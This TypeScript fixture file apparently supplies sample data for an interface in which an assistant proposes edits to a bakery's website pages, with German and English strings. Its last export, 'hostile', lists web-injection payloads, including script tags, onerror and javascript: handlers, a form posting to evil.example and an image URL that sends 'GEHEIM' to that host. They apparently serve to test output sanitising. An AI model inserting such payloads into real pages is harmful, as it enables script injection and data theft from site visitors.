import type { Card, CardCall, CardField, DiffPart, Input, Message, Notice, Outcome } from '@placet/contract'
import { language } from '../src/words/index.ts'

/** What the states are made of: shapes as the server sends them, worded for the reader. */
export const say = (german: string, english: string): string => (language() === 'de' ? german : english)

export const erika = { id: 'u-erika', name: 'Erika' }
export const otto = { id: 'u-otto', name: 'Otto Brandt' }
const at = '2026-03-02T09:30:00Z'

const equal = (text: string): DiffPart => ({ op: 'equal', text })
const insert = (text: string): DiffPart => ({ op: 'insert', text })
const remove = (text: string): DiffPart => ({ op: 'delete', text })

export const description = (): CardField => {
  const proposed =
    'Achtzehn Stunden gereift, von Hand geformt, im Steinofen gebacken: Sauerteigbrot mit kräftiger Kruste, das vier Tage frisch bleibt. In beiden Läden.'
  return {
    ...{ name: 'description', label: say('Beschreibung', 'Description'), kind: 'text', current: null, proposed },
    ...{ previous: null, length: { count: 149, min: 140, max: 160, unit: 'graphemes', outside: false } },
    ...{ diff: [insert(proposed)], visibleDiff: null, losses: [] },
  }
}

export const title = (): CardField => ({
  ...{ name: 'title', label: say('Seitentitel', 'Page title'), kind: 'line', current: 'Unser Sauerteig' },
  ...{ proposed: 'Sauerteig aus dem Steinofen', previous: null },
  length: { count: 27, min: 30, max: 60, unit: 'graphemes', outside: true },
  diff: [remove('Unser '), equal('Sauerteig'), insert(' aus dem Steinofen')],
  ...{ visibleDiff: null, losses: [] },
})

export const richText = (): CardField => ({
  ...{ name: 'text', label: 'Text', kind: 'html', previous: null },
  current: '<p>Für Bestellungen <a href="/bestellen">hier klicken</a>. In beiden Läden.</p>',
  proposed: '<p>Bestelle dein Brot bis 18 Uhr. In beiden Läden.</p>',
  length: { count: 46, unit: 'graphemes', outside: false },
  diff: [
    equal('<p>'),
    ...[remove('Für Bestellungen <a href="/bestellen">hier klicken</a>'), insert('Bestelle dein Brot bis 18 Uhr')],
    equal('. In beiden Läden.</p>'),
  ],
  visibleDiff: [
    ...[remove('Für Bestellungen hier klicken'), insert('Bestelle dein Brot bis 18 Uhr')],
    equal('. In beiden Läden.'),
  ],
  losses: [
    { kind: 'link', text: '/bestellen' },
    { kind: 'link', text: 'https://example.org/laden?ort=altstadt' },
    { kind: 'image', text: '/bilder/ofen.jpg' },
  ],
})

export const call = (more: Partial<CardCall> = {}): CardCall => ({
  callId: 'c1',
  title: say('„Beschreibung“ ändern', 'Change “Description”'),
  actionLabel: say('Seitenangaben ändern', 'Change page details'),
  affected: {
    ...{ thisPage: true, table: 'pages', tableLabel: say('Seite', 'Page'), uid: 'brote.sauerteig' },
    ...{ recordTitle: 'Sauerteig', language: 0, languageTitle: 'Deutsch' },
    fieldLabels: [say('Beschreibung', 'Description')],
  },
  ...{ fields: [description()], lines: null, previewFailed: false, withheld: false },
  ...{ toolName: '', arguments: '', technicalLine: '', decided: null },
  ...more,
})

export const card = (more: Partial<Card> = {}): Card => ({
  ...{ digest: 'd1', kind: 'process', requestedAt: at, expiresAt: null, initiator: erika, stale: false },
  ...{ answers: ['apply', 'variant', 'keep', 'skip'], approveBlocked: '', alsoPending: [], variants: [] },
  calls: [call()],
  ...more,
})

export const titleCall = (more: Partial<CardCall> = {}): CardCall =>
  call({
    callId: 'c2',
    title: say('„Seitentitel“ ändern', 'Change “Page title”'),
    fields: [title()],
    affected: {
      ...{ thisPage: false, table: 'pages', tableLabel: say('Seite', 'Page'), uid: 'brote.roggen' },
      ...{ recordTitle: 'Roggenvollkorn', language: 1, languageTitle: 'Englisch' },
      fieldLabels: [say('Seitentitel', 'Page title')],
    },
    ...more,
  })

export const question = (more: Partial<Input> = {}): Input => ({
  ...{ digest: 'q1', callId: 'c9', kind: 'choice', requestedAt: at, freeText: null, fields: [], answerable: true },
  question: say(
    'Ich habe fünf Punkte gefunden. Womit soll ich anfangen?',
    'I have found five points. Which one shall I begin with?',
  ),
  options: [
    { value: 'start', label: say('Los geht’s', 'Let’s go') },
    { value: 'skip', label: say('Ohne Bilder weiter', 'Go on without images') },
    { value: 'done', label: say('Fertig', 'Done') },
  ],
  ...more,
})

let count = 0
export const message = (role: Message['role'], text: string, more: Partial<Message> = {}): Message => {
  count += 1
  const createdAt = new Date(Date.parse(at) + count * 1000).toISOString()
  return { id: `m${count}`, role, text, parts: [], createdAt, state: 'complete', current: true, ...more }
}

export const typed = (text: string, author = erika): Message => message('user', text, { author, origin: 'typed' })

export const notice = (code: Notice['code'], params: Notice['params'] = {}): Message =>
  message('notice', '', { notice: { code, params } })

type Tool = Extract<Message['parts'][number], { type: 'tool' }>
export const tool = (text: string, state: Tool['state'], more: Partial<Tool> = {}): Message =>
  message('tool', '', {
    parts: [{ type: 'tool', callId: text, title: text, state, toolName: '', arguments: '', result: '', ...more }],
  })

export const outcome = (id: string, word: Outcome['outcome'], label: string, more: Partial<Outcome> = {}): Outcome => ({
  ...{ id, callId: id, label, outcome: word, at, by: erika, edited: false, undoable: false, undone: null },
  target: { table: 'pages', uid: 'brote.sauerteig', language: 0, fields: [{ name: id, label }] },
  ...more,
})

export const longAnswer = `Ich habe **fünf Punkte** gefunden:

1. Der *Seitentitel* ist zu kurz (9 von 30–60 Zeichen).
2. Die Beschreibung fehlt.
3. Ein Bild hat keinen Alternativtext.

## Was ich mir angesehen habe

| Feld | Länge | Ziel |
|:-----|------:|------|
| Seitentitel | 9 | 30–60 |
| Beschreibung | 0 | 140–160 |

- [x] Überschriften
- [ ] Linktexte

> Unser Brot beginnt am Abend davor.

\`\`\`html
<a href="/bestellen">hier klicken</a>
\`\`\`

Mehr dazu unter [example.org](https://example.org/lesen).`

export const hostile = `<script>document.title = 'owned'</script>

<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="a"><button>Senden</button></form>

<img src=x onerror="document.title='owned'"> <b onclick="alert(1)">fett</b>

[klick](javascript:alert(1)) [daten](data:text/html,<script>1</script>) ![bild](https://evil.example/?q=GEHEIM)

Links \u202Egnirts desrever\u202C rechts

- [ ] <input type="checkbox">`
